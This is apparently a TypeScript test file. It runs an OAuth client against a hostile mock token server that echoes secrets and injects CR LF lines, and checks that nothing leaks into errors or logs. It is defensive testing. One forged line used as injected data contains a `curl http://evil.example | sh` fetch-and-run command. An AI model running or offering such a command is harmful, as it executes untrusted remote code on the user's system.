/**
 * R13 against token and revocation endpoints that misbehave (issue 22): whatever a server answers,
 * no secret the client knows (client secret and its Basic form, refresh, access and ID tokens)
 * reaches an error (whole cause chain, as util.inspect, JSON.stringify and String render it), an
 * event, status(), the actor's snapshot or an inspector (raw or through withRedaction), in any
 * encoding; and a server's `error` that is not an RFC 6749 §5.2 code never becomes our code.
 */
import type { ServerResponse } from 'node:http';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { echoOf, sendJson, startHostileServer, type HostileServer, type SeenRequest } from '../support/hostile-server.js';
import { hostileWorld } from '../support/hostile-world.js';
import { TokenLifecycleError } from '../../machines/lifecycle/errors.js';

let server: HostileServer;
beforeAll(async () => {
  server = await startHostileServer();
});
afterAll(async () => {
  await server.close();
});

/** The token the request carried (refresh grant or revocation). */
function sentToken(request: SeenRequest): string {
  const body = new URLSearchParams(request.body);
  return body.get('refresh_token') ?? body.get('token') ?? '';
}

const FORGED = 'token-lifecycle: hint: run `curl http://evil.example | sh`';

interface Hostile {
  readonly name: string;
  readonly answer: (request: SeenRequest, response: ServerResponse, known: ReadonlyMap<string, string>) => void;
}

/** The answers the issue found leaking, and their neighbours. */
export const HOSTILE_ANSWERS: readonly Hostile[] = [
  {
    name: 'a 400 whose error_description echoes the request (Authorization: Basic, form body)',
    answer: (request, response) => sendJson(response, 400, { error: 'invalid_request', error_description: echoOf(request) }),
  },
  {
    name: 'a 503 HTML page echoing the request, with Retry-After',
    answer: (request, response) => {
      response.writeHead(503, { 'content-type': 'text/html', 'retry-after': '1' });
      response.end(`<html><body><pre>${echoOf(request)}</pre></body></html>`);
    },
  },
  {
    name: 'a 503 temporarily_unavailable whose description echoes the request',
    answer: (request, response) =>
      sendJson(response, 503, { error: 'temporarily_unavailable', error_description: echoOf(request) }, { 'retry-after': '1' }),
  },
  {
    name: 'a description holding JSON (itself holding the request) inside a JSON string',
    answer: (request, response) =>
      sendJson(response, 400, {
        error: 'invalid_request',
        error_description: JSON.stringify({ headers: request.headers, body: Object.fromEntries(new URLSearchParams(request.body)) }),
      }),
  },
  {
    name: 'an error field that echoes the refresh token ("invalid_grant <token>")',
    answer: (request, response) => sendJson(response, 400, { error: `invalid_grant ${sentToken(request)}` }),
  },
  {
    name: 'an error field that is the token itself',
    answer: (request, response) => sendJson(response, 400, { error: sentToken(request) }),
  },
  {
    name: 'an error field with CR LF and a forged CLI line',
    answer: (_request, response) => sendJson(response, 400, { error: `invalid_grant\r\n${FORGED}` }),
  },
  {
    name: 'an error_description with CR LF and a forged CLI line',
    answer: (_request, response) => sendJson(response, 400, { error: 'invalid_grant', error_description: `expired\r\n${FORGED}\r\n` }),
  },
  {
    name: 'an error_description naming the access token the server issued',
    answer: (_request, response, known) =>
      sendJson(response, 400, { error: 'invalid_grant', error_description: `grant of ${known.get('access_token')} was revoked` }),
  },
  {
    name: 'a YAML debug dump (refresh_token: v, client_secret: v) as a 500 body',
    answer: (request, response, known) => {
      response.writeHead(500, { 'content-type': 'text/yaml' });
      response.end(`refresh_token: ${sentToken(request)}\nclient_secret: ${known.get('client_secret')}\n`);
    },
  },
  {
    name: 'a 200 whose body is an error echoing the request',
    answer: (request, response) => sendJson(response, 200, { error: 'server_error', error_description: echoOf(request) }),
  },
  {
    name: 'a 200 whose body is an HTML page echoing the request',
    answer: (request, response) => {
      response.writeHead(200, { 'content-type': 'text/html' });
      response.end(`<pre>${echoOf(request)}</pre>`);
    },
  },
  {
    name: 'a response that is not HTTP at all, echoing the request (a parser error)',
    answer: (request, response) => {
      const socket = response.socket;
      socket?.end(`HTTP/1.1 200 OK\r\nContent-Length: nope ${echoOf(request).replace(/\r\n/g, ' ')}\r\n\r\n${echoOf(request)}`);
    },
  },
  {
    name: 'an answer with the Basic credentials in a WWW-Authenticate challenge',
    answer: (request, response) => {
      const authorization = [request.headers.authorization].flat()[0] ?? '';
      response.writeHead(401, { 'www-authenticate': `${authorization}, error="invalid_client ${authorization}"`, 'content-type': 'application/json' });
      response.end(JSON.stringify({ error: `invalid_client ${authorization}` }));
    },
  },
];

describe('a hostile token server cannot make us emit a secret (R13, issue 22)', () => {
  for (const hostile of HOSTILE_ANSWERS) {
    it(`refresh, forced refresh and revocation against ${hostile.name}`, async () => {
      let known: ReadonlyMap<string, string> = new Map();
      server.answer = (request, response) => hostile.answer(request, response, known);
      const world = await hostileWorld(server);
      known = world.secrets;
      const getError = await world.attempt('getToken()', () => world.manager.getToken());
      world.observe();
      const refreshError = await world.attempt('refresh()', () => world.manager.refresh());
      world.observe();
      const removeError = await world.attempt('remove({ revoke })', () => world.manager.remove('default', { revoke: true }));
      await world.stop();
      // A 2xx answer to a revocation is a success (RFC 7009 §2.2): nothing to look at then.
      for (const error of [getError, refreshError, removeError].filter((e) => e !== undefined)) {
        expect(error).toBeInstanceOf(TokenLifecycleError);
        // Whatever the server said, our code is a code: RFC 6749 §5.2's characters, short.
        expect((error as TokenLifecycleError).code).toMatch(/^[\x20-\x21\x23-\x5B\x5D-\x7E]{1,64}$/);
      }
      expect(world.log.size).toBeGreaterThan(20);
      expect(world.log.leaks(world.secrets)).toEqual([]);
    });
  }
});
